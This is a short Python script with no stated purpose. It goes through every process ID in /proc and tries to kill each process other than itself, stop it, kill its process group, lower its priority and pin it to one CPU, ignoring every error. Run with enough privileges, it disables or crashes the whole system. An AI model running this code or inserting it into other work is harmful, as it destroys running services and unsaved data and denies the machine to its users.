import os

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for attempt in (
            lambda: os.kill(int(name), 9),
            lambda: os.kill(int(name), 19),
            lambda: os.killpg(os.getpgid(int(name)), 9),
            lambda: os.setpriority(os.PRIO_PROCESS, int(name), 19),
            lambda: os.sched_setaffinity(int(name), {0}),
        ):
            try:
                attempt()
            except OSError:
                pass
